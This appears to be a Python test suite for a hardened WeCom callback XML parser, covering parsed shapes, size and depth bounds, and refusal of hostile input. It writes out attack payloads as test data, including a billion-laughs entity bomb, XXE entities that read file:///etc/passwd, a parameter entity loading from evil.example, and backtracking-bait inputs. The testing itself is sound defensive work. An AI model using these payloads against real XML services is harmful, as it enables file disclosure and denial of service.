"""Tests of the hardened callback XML parser: the shapes it returns and everything it refuses."""

from __future__ import annotations

import contextlib
import time
from xml.sax.saxutils import escape as xml_escape

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from shared.wecom.errors import XmlError
from shared.wecom.xml import _parse_flat, _parse_streaming, parse_envelope, parse_xml

# Marks input that must never be echoed back in an error message.
MARKER = "s3cr3t"


def test_cdata_and_plain_text_leaves_keep_their_text_exactly() -> None:
    """Official samples mix CDATA, plain text and stray whitespace: the whitespace around a
    CDATA section is indentation, what is inside it and plain text are the value."""
    body = (
        b"<xml>\n"
        b"  <SuiteId><![CDATA[ww4asffe99e54c0f4c]]></SuiteId>\n"
        b"  <InfoType> <![CDATA[suite_ticket]]></InfoType>\n"
        b"  <TimeStamp>\n    1403610513\n  </TimeStamp>\n"
        b"  <SuiteTicket><![CDATA[  ticket  ]]></SuiteTicket>\n"
        b"</xml>\n"
    )
    assert parse_xml(body) == {
        "SuiteId": "ww4asffe99e54c0f4c",
        "InfoType": "suite_ticket",
        "TimeStamp": "\n    1403610513\n  ",
        "SuiteTicket": "  ticket  ",
    }


def test_empty_elements_are_empty_strings() -> None:
    """An empty EventKey (enter_agent) is present and empty, not missing."""
    body = b"<xml><A/><B></B><C><![CDATA[]]></C><D>  </D></xml>"
    assert parse_xml(body) == {"A": "", "B": "", "C": "", "D": ""}


def test_elements_with_children_become_nested_dicts() -> None:
    """ScanCodeInfo, SendPicsInfo and friends keep their structure."""
    body = (
        b"<xml><Event>scancode_push</Event>"
        b"<ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>1</ScanResult></ScanCodeInfo>"
        b"<Outer><Inner><Leaf>x</Leaf></Inner></Outer></xml>"
    )
    assert parse_xml(body) == {
        "Event": "scancode_push",
        "ScanCodeInfo": {"ScanType": "qrcode", "ScanResult": "1"},
        "Outer": {"Inner": {"Leaf": "x"}},
    }


def test_repeated_names_become_lists_in_document_order() -> None:
    """SelectedItem and OptionId repeat; a single occurrence stays a plain value."""
    body = (
        b"<xml><SelectedItems>"
        b"<SelectedItem><QuestionKey>q1</QuestionKey>"
        b"<OptionIds><OptionId>a</OptionId><OptionId>b</OptionId><OptionId>c</OptionId></OptionIds>"
        b"</SelectedItem>"
        b"<SelectedItem><QuestionKey>q2</QuestionKey>"
        b"<OptionIds><OptionId>d</OptionId></OptionIds></SelectedItem>"
        b"</SelectedItems></xml>"
    )
    assert parse_xml(body) == {
        "SelectedItems": {
            "SelectedItem": [
                {"QuestionKey": "q1", "OptionIds": {"OptionId": ["a", "b", "c"]}},
                {"QuestionKey": "q2", "OptionIds": {"OptionId": "d"}},
            ]
        }
    }


def test_a_repeated_name_may_mix_leaves_and_branches() -> None:
    """Values keep their own shape inside the list."""
    assert parse_xml(b"<xml><A>t</A><A><B>1</B></A><A/></xml>") == {"A": ["t", {"B": "1"}, ""]}


def test_chinese_text_and_references_are_decoded() -> None:
    """Text is UTF-8; predefined and character references resolve without any DTD."""
    body = "<xml><Name><![CDATA[张三]]></Name><Label>&#20013;文 &lt;&amp;&gt;</Label></xml>"
    assert parse_xml(body.encode()) == {"Name": "张三", "Label": "中文 <&>"}


def test_markup_inside_cdata_is_text() -> None:
    """A member may send anything, including what looks like XML or a DTD keyword."""
    body = b"<xml><Content><![CDATA[<b>hi</b> <a href='x'>&amp;</a> <!-- no -->]]></Content></xml>"
    assert parse_xml(body) == {"Content": "<b>hi</b> <a href='x'>&amp;</a> <!-- no -->"}


def test_attributes_comments_and_processing_instructions_are_ignored() -> None:
    """Only elements and their text carry callback data."""
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<xml version="2"><!-- note --><?pi data?><A kind="x">1</A></xml>'
    )
    assert parse_xml(body) == {"A": "1"}


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    """Some tooling prefixes a BOM; it is still UTF-8."""
    assert parse_xml("\ufeff<xml><A>1</A></xml>".encode()) == {"A": "1"}


def test_an_empty_root_gives_an_empty_dict() -> None:
    """A root without children has no fields."""
    assert parse_xml(b"<xml/>") == {}
    assert parse_xml(b"<xml>text only</xml>") == {}


def test_xinclude_is_just_an_element_and_nothing_is_fetched() -> None:
    """ElementTree never processes XInclude: the include is inert data."""
    body = (
        b'<xml xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></xml>'
    )
    assert parse_xml(body) == {"{http://www.w3.org/2001/XInclude}include": ""}


def test_bounds_are_inclusive() -> None:
    """A document exactly at every bound is accepted."""
    body = b"<xml><A><B><C>1</C></B></A></xml>"  # 4 levels, 4 elements, 34 bytes
    assert parse_xml(body, max_bytes=len(body), max_depth=4, max_elements=4) == {
        "A": {"B": {"C": "1"}}
    }


def test_streamed_and_tree_parsing_agree() -> None:
    """Markup-heavy text, near the element bound or not, builds the very same dict (there was
    a tree path for the first case; defusedxml's streaming now parses both)."""
    body = (
        b"<xml><Content><![CDATA[" + b"<" * 50 + b"]]></Content><A><B>1</B><B>2</B></A><C/></xml>"
    )
    expected = {"Content": "<" * 50, "A": {"B": ["1", "2"]}, "C": ""}
    assert parse_xml(body) == expected  # fewer '<' than max_elements
    assert parse_xml(body, max_elements=6) == expected  # more '<' than that


@pytest.mark.parametrize("max_elements", [2000, 4], ids=["tree", "streaming"])
def test_the_depth_bound_holds_on_both_paths(max_elements: int) -> None:
    """One level too deep is refused, whether the element bound is near or far."""
    body = b"<xml><A><B><C>1</C></B></A></xml>"  # 4 elements, 8 '<'
    assert parse_xml(body, max_depth=4, max_elements=max_elements) == {"A": {"B": {"C": "1"}}}
    with pytest.raises(XmlError, match="deeper than 3 levels"):
        parse_xml(body, max_depth=3, max_elements=max_elements)


def test_the_element_bound_stops_at_the_first_element_over_it() -> None:
    """Only markup-heavy documents can exceed the bound, and they are built as they stream."""
    body = b"<xml>" + b"<A/>" * 6 + b"</xml>"  # 7 elements
    assert parse_xml(body, max_elements=7) == {"A": [""] * 6}
    with pytest.raises(XmlError, match="more than 6 elements"):
        parse_xml(body, max_elements=6)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n'
    b"<!DOCTYPE lolz [\n"
    b' <!ENTITY lol "lol">\n'
    b' <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    b' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n'
    b' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    b' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
    b' <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n'
    b' <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n'
    b' <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">\n'
    b' <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">\n'
    b' <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">\n'
    b"]>\n"
    b"<xml><s3cr3t>&lol9;</s3cr3t></xml>"
)


def test_billion_laughs_fails_fast() -> None:
    """A sub-kilobyte entity bomb is refused before any parsing, not after expanding it."""
    assert len(BILLION_LAUGHS) < 1024
    started = time.perf_counter()
    with pytest.raises(XmlError):
        parse_xml(BILLION_LAUGHS)
    assert time.perf_counter() - started < 0.05


def _nested(levels: int) -> bytes:
    return b"<xml>" + b"<a>" * levels + b"1" + b"</a>" * levels + b"</xml>"


HOSTILE: list[tuple[str, bytes, str]] = [
    ("billion laughs", BILLION_LAUGHS, "DTD"),
    (
        "external entity",
        b'<!DOCTYPE xml [<!ENTITY s3cr3t SYSTEM "file:///etc/passwd">]><xml><A>&s3cr3t;</A></xml>',
        "DTD",
    ),
    ("internal DTD", b"<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><s3cr3t/></xml>", "DTD"),
    ("external DTD", b'<!DOCTYPE xml SYSTEM "http://s3cr3t.example/x.dtd"><xml/>', "DTD"),
    (
        "lower-case doctype",
        b"<!doctype xml><xml><s3cr3t/></xml>",
        "malformed",
    ),  # not XML at all: expat refuses it
    (
        "parameter entity",
        b'<!DOCTYPE xml [<!ENTITY % s3cr3t SYSTEM "http://evil.example/p.dtd"> %s3cr3t;]><xml/>',
        "DTD",
    ),
    (
        "entity without doctype",
        b'<xml><!ENTITY s3cr3t "x"></xml>',
        "malformed",
    ),  # outside a DTD it is a syntax error
    ("undeclared entity reference", b"<xml><A>&s3cr3t;</A></xml>", "malformed"),
    ("too deep", _nested(8), "deeper than 8"),
    ("far too deep", _nested(9000), "deeper than 8"),
    ("too many elements", b"<xml>" + b"<s3cr3t/>" * 2000 + b"</xml>", "more than 2000"),
    ("element flood", b"<xml>" + b"<a/>" * 16000 + b"</xml>", "more than 2000"),
    ("too big", b"<xml><A>" + b"s3cr3t" * 11000 + b"</A></xml>", "exceeds 65536 bytes"),
    ("wrong root", b"<s3cr3t><A>1</A></s3cr3t>", "root element must be <xml>"),
    ("namespaced root", b'<xml xmlns="urn:s3cr3t"><A>1</A></xml>', "root element"),
    ("not XML", b"s3cr3t is not xml", "malformed"),
    ("JSON", b'{"s3cr3t": 1}', "malformed"),
    ("empty", b"", "empty"),
    ("whitespace only", b"  \n ", "malformed"),
    ("truncated", b"<xml><A>s3cr3t</A><B>", "malformed"),
    ("mismatched tags", b"<xml><A>s3cr3t</B></xml>", "malformed"),
    ("two roots", b"<xml/><xml><s3cr3t/></xml>", "malformed"),
    ("NUL character", b"<xml><A>s3cr3t\x00</A></xml>", "malformed"),
    ("invalid UTF-8", b"<xml><A>s3cr3t\xff\xfe</A></xml>", "UTF-8"),
    (
        "declared GBK",
        '<?xml version="1.0" encoding="GBK"?><xml><A>s3cr3t你好</A></xml>'.encode("gbk"),
        "UTF-8",
    ),
    ("UTF-16", "<xml><A>s3cr3t</A></xml>".encode("utf-16"), "UTF-8"),
]


@pytest.mark.parametrize(
    ("body", "reason"), [(b, r) for _, b, r in HOSTILE], ids=[n for n, _, _ in HOSTILE]
)
def test_hostile_or_malformed_bodies_raise_xml_error(body: bytes, reason: str) -> None:
    """Every refusal is one XmlError with a short reason that never echoes the body."""
    with pytest.raises(XmlError, match=reason) as caught:
        parse_xml(body)
    message = str(caught.value)
    assert MARKER not in message
    assert len(message) < 80
    assert caught.value.code == "xml_invalid"
    assert caught.value.status == 400


def test_malformed_xml_reports_the_position() -> None:
    """Line and column help an operator find the fault without seeing the body."""
    with pytest.raises(XmlError, match=r"line 2, column \d+"):
        parse_xml(b"<xml>\n<A></B></xml>")


def test_markup_declaration_text_inside_cdata_content_is_kept() -> None:
    """A member may type "<!DOCTYPE" in a message: inside CDATA it is text, not a DTD."""
    body = "<xml><Content><![CDATA[see <!DOCTYPE html> and <!-- x -->]]></Content></xml>"
    assert parse_xml(body.encode()) == {"Content": "see <!DOCTYPE html> and <!-- x -->"}


_TAGS = st.sampled_from(["ToUserName", "MsgType", "Content", "A", "b_1", "x.y", "Z-z"])
_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("\r\n\t ]>&<\x01\ufffe你")),
        st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"),
    ),
    max_size=40,
)


@st.composite
def _flat_documents(draw: st.DrawFn) -> str:
    """Flat <xml> documents of the shapes WeCom sends, with hostile-looking content."""
    children = []
    for tag, text, as_cdata, pad in draw(
        st.lists(st.tuples(_TAGS, _TEXT, st.booleans(), st.sampled_from(["", " ", "\n  "])))
    ):
        if as_cdata:
            body = "]]]]><![CDATA[>".join(f"<![CDATA[{part}]]>" for part in text.split("]]>"))
        else:
            body = xml_escape(text)
        children.append(f"{pad}<{tag}>{pad}{body}{pad}</{tag}>")
    declaration = draw(st.sampled_from(["", '<?xml version="1.0" encoding="UTF-8"?>\n']))
    return f"{declaration}<xml>{''.join(children)}\n</xml>"


@given(_flat_documents())
@example("<xml><A>a\r\nb</A><B><![CDATA[x\ry]]></B></xml>")
@example("<xml><A>\x01</A></xml>")
@settings(max_examples=300)
def test_flat_fast_path_agrees_with_the_parser(document: str) -> None:
    """The regex fast path yields exactly what the real parser yields, or steps aside."""
    try:
        expected: object = _parse_streaming(document, 8, 2000)  # the reference path
    except XmlError as exc:  # any parser refusal must also be ours
        expected = type(exc)
    fast = _parse_flat(document, 8, 2000)
    if fast is not None:
        assert fast == expected
    if isinstance(expected, dict):
        assert parse_xml(document.encode()) == expected
    else:
        with pytest.raises(XmlError):
            parse_xml(document.encode())


_ENVELOPE_TEXT = st.one_of(
    st.text(
        alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=", max_size=60
    ),
    _TEXT,
)


@st.composite
def _envelopes(draw: st.DrawFn) -> bytes:
    """Outer callback envelopes: the documented shape, and near misses of it."""
    parts = []
    for tag in ("ToUserName", "AgentID", "Encrypt"):
        if tag == "Encrypt" or draw(st.booleans()):
            text = draw(_ENVELOPE_TEXT)
            body = f"<![CDATA[{text}]]>" if draw(st.booleans()) else xml_escape(text)
            parts.append(f"<{tag}>{body}</{tag}>")
    if draw(st.booleans()):
        parts.reverse()
    pad = draw(st.sampled_from(["", " ", "\n"]))
    return f"<xml>{pad.join(parts)}{pad}</xml>".encode()


@given(_envelopes())
@example(b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt><![CDATA[abc=]]></Encrypt></xml>")
@example(b"<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>")
@settings(max_examples=300)
def test_the_envelope_fast_path_agrees_with_the_parser(document: bytes) -> None:
    """parse_envelope answers exactly what parse_xml answers with the envelope's limits,
    except that it refuses comments, processing instructions and "<!" outright."""
    try:
        expected: object = parse_xml(document, max_depth=3, max_elements=16)
    except XmlError as exc:
        expected = str(exc)
    if b"<!--" in document:
        expected = "comments are not allowed in the envelope"
    elif b"<?" in document:
        expected = "processing instructions are not allowed in the envelope"
    elif document.count(b"<!") != document.count(b"<![CDATA["):
        expected = "a DTD is not allowed"
    try:
        got: object = parse_envelope(document)
    except XmlError as exc:
        got = str(exc)
    assert got == expected


_HOSTILE_FLAT_SHAPES = [
    "<xml><a>" + " " * 60_000 + "</b>",
    "<xml><a>" + " \n" * 30_000 + "x",
    "<xml>" + "<a>x</a>" * 7_000 + "junk",
    "<xml><a><![CDATA[" + "]]" * 30_000 + "</a></xml>",
    "<xml><a><![CDATA[" + " ]" * 30_000,
    "<xml>" + "<a> " * 15_000 + "</xml>",
    " " * 60_000 + "<xml",
    '<?xml version="1.0"' + " " * 60_000 + "x",
    "<xml><a>" + " " * 60_000 + "<![CDATA[x]]>" + " " * 4_000 + "</b>",
    # Accepted by the shape check, so they reach the child reader: it must not rescan the
    # whitespace from every space (found by a review: 3 s per 64 KB body).
    "<xml>" + " " * 65_000 + "</xml>",
    "<xml><a>1</a>" + " " * 65_000 + "</xml>",
    "<xml><a>1</a></xml>" + " " * 65_000,
]


@pytest.mark.parametrize("document", _HOSTILE_FLAT_SHAPES, ids=lambda d: d[:12])
def test_unauthenticated_bodies_cannot_make_the_fast_path_backtrack(document: str) -> None:
    """A hang guard, not a speed target: an outer envelope of an unusual shape reaches the
    flat fast path before anything is authenticated. With backtracking quantifiers the first
    shape took seconds at 2,000 spaces and would take hours at 60 KB; linear matching takes
    about a millisecond. The bound is a thousand times that."""
    started = time.perf_counter()
    # Most are refused; the well-formed ones just have no Encrypt.
    with contextlib.suppress(XmlError):
        parse_envelope(document.encode())
    assert time.perf_counter() - started < 2.0


def test_usual_callback_shapes_take_the_fast_path() -> None:
    """The differential test above passes if the fast path always steps aside; these shapes,
    compact or pretty-printed, with a repeated name, must not."""
    compact = "<xml><ToUserName><![CDATA[ww1]]></ToUserName><CreateTime>17</CreateTime></xml>"
    assert _parse_flat(compact, 8, 2000) == {"ToUserName": "ww1", "CreateTime": "17"}
    pretty = '<?xml version="1.0"?>\n<xml>\n  <A><![CDATA[ x ]]></A>\n  <A>y</A>\n</xml>\n'
    assert _parse_flat(pretty, 8, 2000) == {"A": [" x ", "y"]}
    assert _parse_flat("<xml></xml>", 8, 2000) == {}
